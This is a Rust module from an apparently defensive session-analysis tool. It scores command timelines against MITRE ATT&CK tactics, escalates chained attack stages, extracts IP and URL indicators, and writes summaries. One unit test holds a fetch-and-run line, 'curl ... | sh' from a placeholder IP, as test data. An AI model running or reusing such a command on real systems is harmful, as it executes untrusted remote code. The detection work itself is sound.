//! Scoring: each entry's risk is its worst finding; the session's is its worst entry, raised
//! when the session chains tactics (discovery → credential access → exfiltration is
//! `CRITICAL`). Also writes the plain-words title and descriptions from the findings.

use super::{Assessment, attack};
use crate::model::{Finding, RiskLevel, RiskScoreReason, Session, ThreatCategory, TimelineEntry};
use std::collections::BTreeSet;

/// Score of an entry at each risk level (0–100).
fn base_score(level: RiskLevel) -> i32 {
    match level {
        RiskLevel::Unspecified => 0,
        RiskLevel::Low => 5,
        RiskLevel::Medium => 40,
        RiskLevel::High => 70,
        RiskLevel::Critical => 90,
    }
}

/// Fills an entry's risk fields from its findings.
pub fn apply_findings(entry: &mut TimelineEntry, mut findings: Vec<Finding>) {
    findings.sort_by(|left, right| right.risk_level.cmp(&left.risk_level).then(left.rule_id.cmp(&right.rule_id)));
    let Some(top) = findings.first() else {
        entry.risk_level = RiskLevel::Low;
        entry.risk_score = base_score(RiskLevel::Low);
        entry.threat_category = ThreatCategory::None;
        return;
    };
    entry.risk_level = top.risk_level;
    let extra = (findings.len() as i32 - 1).clamp(0, 3) * 3;
    entry.risk_score = (base_score(top.risk_level) + extra).min(100);
    entry.threat_category = top.threat_category;
    entry.timeline_subtitle = entry.timeline_title.clone();
    entry.timeline_title = top.title.clone();
    entry.short_description = top.description.clone();
    entry.detailed_description = findings
        .iter()
        .map(|finding| format!("{} ({})", finding.title, finding.risk_level))
        .collect::<Vec<_>>()
        .join("; ");
    let mut ids = BTreeSet::new();
    let mut flags = BTreeSet::new();
    for finding in &findings {
        ids.extend(finding.mitre_attack_ids.iter().cloned());
        for flag in &finding.flags {
            match flag.as_str() {
                "has_sensitive_data" => entry.has_sensitive_data = true,
                "privilege_escalation" => entry.privilege_escalation = true,
                "data_exfiltration" => entry.data_exfiltration = true,
                "persistence" => entry.persistence = true,
                other => {
                    flags.insert(other.to_string());
                }
            }
        }
        match finding.threat_category {
            ThreatCategory::Persistence => entry.persistence = true,
            ThreatCategory::PrivilegeEscalation => entry.privilege_escalation = true,
            ThreatCategory::Exfiltration => entry.data_exfiltration = true,
            ThreatCategory::CredentialAccess => entry.has_sensitive_data = true,
            _ => {}
        }
        if finding.risk_level >= RiskLevel::Medium && !finding.evidence.is_empty() {
            entry.suspicious_patterns.push(finding.evidence.clone());
        }
    }
    entry.suspicious_patterns.dedup();
    entry.mitre_attack_ids = ids.into_iter().collect();
    entry.suspicious_flags = flags.into_iter().collect();
    entry.iocs = indicators(entry.command());
    entry.findings = findings;
}

/// IP addresses and URLs in a command (private and loopback addresses included: lateral
/// movement targets matter too).
fn indicators(command: &str) -> Vec<String> {
    let mut found = BTreeSet::new();
    for word in
        command.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '(' | ')' | ';' | '|' | '>' | '<' | '`'))
    {
        let word = word.trim_matches(|c: char| c == ',' || c == '.');
        if word.starts_with("http://") || word.starts_with("https://") || word.starts_with("ftp://") {
            found.insert(word.to_string());
        } else if let Some(ip) = word.split(['@', ':', '/']).find(|part| part.parse::<std::net::Ipv4Addr>().is_ok()) {
            found.insert(ip.to_string());
        }
    }
    found.into_iter().take(10).collect()
}

/// A tactic as a noun phrase for titles.
fn tactic_phrase(tactic: &str) -> &'static str {
    match tactic {
        "credential-access" => "credential theft",
        "exfiltration" => "data exfiltration",
        "command-and-control" => "remote control of the host",
        "persistence" => "persistence",
        "privilege-escalation" => "privilege escalation",
        "stealth" => "covering tracks",
        "defense-impairment" => "disabling defenses",
        "discovery" => "reconnaissance",
        "lateral-movement" => "lateral movement",
        "collection" => "data collection",
        "impact" => "destructive activity",
        "execution" => "running untrusted code",
        "initial-access" => "initial access",
        "reconnaissance" => "reconnaissance",
        _ => "suspicious activity",
    }
}

/// The ATT&CK tactic of a finding (from its first technique, or its threat category).
fn finding_tactic(finding: &Finding) -> String {
    let table = attack::table();
    finding
        .mitre_attack_ids
        .iter()
        .filter_map(|id| table.get(id))
        .flat_map(|technique| technique.tactics.iter())
        .find(|tactic| attack::threat_category(tactic) == finding.threat_category)
        .cloned()
        .unwrap_or_else(|| match finding.threat_category {
            ThreatCategory::DefenseEvasion => "stealth".to_string(),
            ThreatCategory::CredentialAccess => "credential-access".to_string(),
            ThreatCategory::Execution => "execution".to_string(),
            other => other.as_str().to_ascii_lowercase().replace('_', "-"),
        })
}

/// The session-level assessment from the judged timeline.
pub fn assess(session: &Session, timeline: &[TimelineEntry]) -> Assessment {
    let mut assessment =
        Assessment { risk_level: RiskLevel::Low, risk_score: base_score(RiskLevel::Low), ..Assessment::default() };
    let mut tactics_medium: BTreeSet<String> = BTreeSet::new();
    let mut tactics_high: BTreeSet<String> = BTreeSet::new();
    let mut seen_rules: BTreeSet<String> = BTreeSet::new();
    let mut injection = false;
    for (index, entry) in timeline.iter().enumerate() {
        if entry.risk_level > assessment.risk_level {
            assessment.risk_level = entry.risk_level;
        }
        assessment.risk_score = assessment.risk_score.max(entry.risk_score);
        if entry.risk_level >= RiskLevel::Medium {
            assessment.notable_command_indexes.push(index as i32);
        }
        for finding in &entry.findings {
            let tactic = finding_tactic(finding);
            injection |= finding.flags.iter().any(|flag| flag == "prompt_injection");
            if finding.risk_level >= RiskLevel::Medium {
                tactics_medium.insert(tactic.clone());
            }
            if finding.risk_level >= RiskLevel::High {
                tactics_high.insert(tactic.clone());
            }
            let covered = is_covered(finding, &entry.findings);
            if !covered && seen_rules.insert(finding.rule_id.clone()) {
                assessment.risk_score_reasons.push(RiskScoreReason {
                    reason: finding.title.clone(),
                    score_impact: base_score(finding.risk_level),
                });
                if finding.risk_level >= RiskLevel::Medium {
                    let evidence = if finding.evidence.is_empty() {
                        String::new()
                    } else {
                        format!(": {}", first_line(&finding.evidence, 100))
                    };
                    assessment.suspicious_activities.push(format!("{}{evidence}", finding.title));
                }
            }
            if finding.risk_level >= RiskLevel::High
                && matches!(tactic.as_str(), "command-and-control" | "exfiltration" | "persistence" | "impact")
                || finding.risk_level == RiskLevel::Critical
            {
                assessment.compromise_indicators = true;
            }
        }
    }

    // Chains of tactics make a session worse than its worst command.
    let has = |set: &BTreeSet<String>, tactic: &str| set.contains(tactic);
    let stealing = has(&tactics_medium, "credential-access") || has(&tactics_medium, "collection");
    let sending = has(&tactics_medium, "exfiltration") || has(&tactics_medium, "command-and-control");
    let hiding = has(&tactics_medium, "stealth") || has(&tactics_medium, "defense-impairment");
    let mut chain = None;
    if stealing && sending {
        chain = Some((RiskLevel::Critical, "Stole data or credentials and sent them off the host"));
    } else if has(&tactics_high, "persistence") && (hiding || sending) {
        chain = Some((RiskLevel::Critical, "Set up persistence and hid or opened a channel out"));
    } else if tactics_high.len() >= 4 {
        chain = Some((RiskLevel::Critical, "Ran through many attack stages in one session"));
    } else if tactics_medium.len() >= 3 && assessment.risk_level < RiskLevel::High {
        chain = Some((RiskLevel::High, "Combined several attack stages"));
    }
    if let Some((level, reason)) = chain
        && level > assessment.risk_level
    {
        assessment.risk_level = level;
        assessment.risk_score = assessment.risk_score.max(base_score(level));
        assessment
            .risk_score_reasons
            .push(RiskScoreReason { reason: reason.to_string(), score_impact: base_score(level) });
    }
    let breadth = (tactics_medium.len() as i32 - 1).max(0) * 2;
    assessment.risk_score = (assessment.risk_score + breadth).min(100);
    if injection {
        assessment.compromise_indicators = true;
    }

    describe(session, timeline, &tactics_medium, &mut assessment);
    assessment
}

/// True when another finding on the same entry says at least as much: equal or higher risk,
/// same threat category, and every technique of this one. Such findings stay on the entry (the
/// evidence is complete) but are not repeated in the session's activities and reasons.
fn is_covered(finding: &Finding, all: &[Finding]) -> bool {
    all.iter().any(|other| {
        other.rule_id != finding.rule_id
            && other.threat_category == finding.threat_category
            && finding.mitre_attack_ids.iter().all(|id| other.mitre_attack_ids.contains(id))
            && (other.risk_level > finding.risk_level
                || other.risk_level == finding.risk_level
                    && (other.mitre_attack_ids.len() > finding.mitre_attack_ids.len()
                        || other.mitre_attack_ids.len() == finding.mitre_attack_ids.len()
                            && other.rule_id < finding.rule_id))
    })
}

fn first_line(text: &str, limit: usize) -> String {
    let line = text.lines().next().unwrap_or("");
    let mut short: String = line.chars().take(limit).collect();
    if line.chars().count() > limit || text.contains('\n') {
        short.push('…');
    }
    short
}

/// Title and descriptions in plain words, from the findings in kill-chain order.
fn describe(session: &Session, timeline: &[TimelineEntry], tactics: &BTreeSet<String>, assessment: &mut Assessment) {
    if assessment.risk_level < RiskLevel::Medium {
        return; // the verdict builder writes a neutral summary
    }
    let metadata = session.metadata();
    let target = metadata.target(session.kind);
    let user = if metadata.user.is_empty() { "The user".to_string() } else { metadata.user.clone() };
    let mut ordered: Vec<&str> = attack::TACTICS.iter().copied().filter(|tactic| tactics.contains(*tactic)).collect();
    ordered.dedup_by_key(|tactic| tactic_phrase(tactic));
    let mut phrases: Vec<&str> = ordered.iter().map(|tactic| tactic_phrase(tactic)).collect();
    phrases.dedup();
    let title_phrases = join_words(&phrases.iter().take(3).copied().collect::<Vec<_>>());
    assessment.short_title = capitalize(&format!("{title_phrases} on {target}"));

    let mut actions: Vec<String> = Vec::new();
    let mut details: Vec<String> = Vec::new();
    for entry in timeline.iter().filter(|entry| entry.risk_level >= RiskLevel::Medium) {
        let Some(top) = entry.findings.first() else {
            continue;
        };
        let action = lowercase_first(&top.title);
        if !actions.contains(&action) {
            actions.push(action);
        }
        let techniques = if entry.mitre_attack_ids.is_empty() {
            String::new()
        } else {
            format!(" [{}]", entry.mitre_attack_ids.join(", "))
        };
        details.push(format!(
            "At {} `{}`: {} ({}){techniques}.",
            entry.start_offset,
            first_line(entry.command(), 120),
            top.title,
            entry.risk_level
        ));
    }
    let shown: Vec<&str> = actions.iter().take(4).map(String::as_str).collect();
    let more =
        if actions.len() > 4 { format!(", and {} more suspicious actions", actions.len() - 4) } else { String::new() };
    assessment.short_description = format!("{user} {}{more} on {target}.", join_words(&shown));
    assessment.detailed_description = format!("{} {}", assessment.short_description, details.join(" "));
}

fn join_words(words: &[&str]) -> String {
    match words {
        [] => String::new(),
        [one] => one.to_string(),
        [rest @ .., last] => format!("{} and {last}", rest.join(", ")),
    }
}

fn capitalize(text: &str) -> String {
    let mut chars = text.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

fn lowercase_first(text: &str) -> String {
    let mut chars = text.chars();
    match chars.next() {
        // Keep acronyms (`SSH`, `AWS`) as written.
        Some(first) if chars.clone().next().is_some_and(|second| second.is_uppercase()) => {
            text.to_string().replacen(first, &first.to_string(), 1)
        }
        Some(first) => first.to_lowercase().chain(chars).collect(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_indicators() {
        assert_eq!(indicators("curl -s http://203.0.113.7/x.sh | sh"), vec!["http://203.0.113.7/x.sh"]);
        assert_eq!(indicators("ssh root@10.0.4.12"), vec!["10.0.4.12"]);
        assert!(indicators("ls -la").is_empty());
    }

    fn finding(rule: &str, risk: RiskLevel, ids: &[&str]) -> Finding {
        Finding {
            rule_id: rule.to_string(),
            risk_level: risk,
            mitre_attack_ids: ids.iter().map(|id| id.to_string()).collect(),
            threat_category: ThreatCategory::Execution,
            ..Finding::default()
        }
    }

    #[test]
    fn a_finding_said_better_elsewhere_is_covered() {
        let broad = finding("a.broad", RiskLevel::High, &["T1059.004", "T1105"]);
        let narrow = finding("b.narrow", RiskLevel::Medium, &["T1105"]);
        let other = finding("c.other", RiskLevel::High, &["T1003.008"]);
        let all = vec![broad.clone(), narrow.clone(), other.clone()];
        assert!(is_covered(&narrow, &all));
        assert!(!is_covered(&broad, &all));
        assert!(!is_covered(&other, &all));
        // Of two identical findings exactly one is kept.
        let twin = finding("d.twin", RiskLevel::High, &["T1059.004", "T1105"]);
        let pair = vec![broad.clone(), twin.clone()];
        assert_ne!(is_covered(&broad, &pair), is_covered(&twin, &pair));
    }

    #[test]
    fn words_join_naturally() {
        assert_eq!(join_words(&["a", "b", "c"]), "a, b and c");
        assert_eq!(lowercase_first("Read the shadow file"), "read the shadow file");
        assert_eq!(lowercase_first("SSH key added"), "SSH key added");
    }
}
